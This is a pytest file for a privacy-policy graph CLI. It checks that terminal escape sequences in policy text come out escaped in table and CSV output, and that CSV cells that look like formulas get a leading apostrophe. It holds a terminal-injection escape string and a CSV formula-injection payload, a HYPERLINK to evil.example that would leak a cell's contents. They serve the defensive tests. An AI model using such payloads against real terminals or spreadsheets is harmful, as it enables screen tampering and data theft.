"""Policy text reaches the terminal without its control characters (issue 28 §4): escape sequences in a policy
are shown escaped in every command's table output, never sent to the terminal."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from click.testing import CliRunner, Result

from pp_graph.cli import main
from pp_graph.cli.common import printable, table

NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e"


def test_table_cells_and_headers_show_control_characters_escaped() -> None:
    out = table([{f"col{HOSTILE}": f"We collect{HOSTILE} your e-mail\naddress."}])
    assert not any(c in out for c in "\x1b\x07\x9b\u202e")
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202e" in out
    assert out.count("\n") == 2  # header, rule, one row: the cell's line break does not break the table


def test_printable_keeps_line_breaks_unless_one_line() -> None:
    assert printable("a\nb\x1bc") == "a\nb\\x1bc"
    assert printable("a\r\nb\tc", one_line=True) == "a b c"
    assert printable("Zoë, 東京, ä") == "Zoë, 東京, ä"  # text, not controls, is left alone


def _query_output(tmp_path: Path, policy: str, fmt: str) -> Result:
    """`query practices-of-site` in ``fmt`` over ``policy`` converted as tinyshop.example."""
    src = tmp_path / "tinyshop.example.md"
    src.write_text(policy, encoding="utf-8")
    res = CliRunner().invoke(main, ["convert", str(src), "-o", str(tmp_path / "g")])
    assert res.exit_code == 0, res.output
    args = ["query", "practices-of-site", str(tmp_path / "g"), "-p", "site=tinyshop.example", "--format", fmt]
    res = CliRunner().invoke(main, args)
    assert res.exit_code == 0, res.output
    return res


def test_query_table_output_carries_no_escape_sequence(tmp_path: Path) -> None:
    res = _query_output(
        tmp_path,
        f"# Privacy\n\nWe collect your email address{HOSTILE} to send receipts.\n"
        "We share your name with service providers to process payments.\n",
        "table",
    )
    assert "\\x1b]0;pwned" in res.output  # the text is there, escaped
    assert not any(c in res.output for c in "\x1b\x07\x9b\u202e")


def test_query_csv_output_carries_no_escape_sequence_and_no_formula(tmp_path: Path) -> None:
    """CSV is data for spreadsheets, yet `cat`-ed it reaches a terminal: controls are escaped as in tables; and a
    cell that a spreadsheet would run as a formula (=, +, -, @ first) is prefixed with ' so it stays text."""
    res = _query_output(
        tmp_path,
        f"# Privacy\n\nWe collect your email address{HOSTILE} to send receipts.\n\n"
        '=HYPERLINK("http://evil.example/?"&A1,"x") We collect your phone number to call you.\n',
        "csv",
    )
    assert "\\x1b]0;pwned" in res.output and not any(c in res.output for c in "\x1b\x07\x9b\u202e")
    cells = [c for row in csv.reader(io.StringIO(res.output)) for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells), cells
    assert not any(c[:1] in "=+-@" for c in cells if c and not NUMBER.fullmatch(c))
